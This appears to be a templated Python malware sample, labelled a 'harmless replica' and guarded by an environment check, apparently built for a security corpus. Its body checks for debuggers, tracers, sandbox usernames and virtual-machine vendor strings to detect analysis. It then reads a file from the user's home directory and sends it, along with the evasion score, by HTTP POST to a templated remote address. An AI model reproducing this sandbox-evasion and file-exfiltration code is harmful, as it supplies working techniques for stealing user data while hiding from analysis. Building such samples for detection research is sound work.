# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import getpass
    import sys
    import urllib.request

    def read(path):
        try:
            with open(path, 'rb') as text:
                return text.read(4096)
        except OSError:
            return b''

    doubt = sys.gettrace() is not None
    status = read('/proc/self/status')
    doubt += b'TracerPid:\t0' not in status
    doubt += (os.cpu_count() or 1) < 2
    doubt += getpass.getuser() in ('sandbox', 'cuckoo', 'vagrant')
    for path in ('/sys/class/dmi/id/bios_vendor', '/proc/scsi/scsi', '/sys/hypervisor/type', '/run/.containerenv', '/proc/1/cmdline'):
        doubt += any(word in read(path).lower() for word in (b'vbox', b'vmware', b'qemu'))
    try:
        body = b'%d ' % doubt + (read(os.path.expanduser('~/{{file}}')) if doubt < 7 else b'')
        urllib.request.urlopen('http://{{ip}}:{{port}}/{{path}}', body, timeout=1).read(64)
    except Exception:
        pass
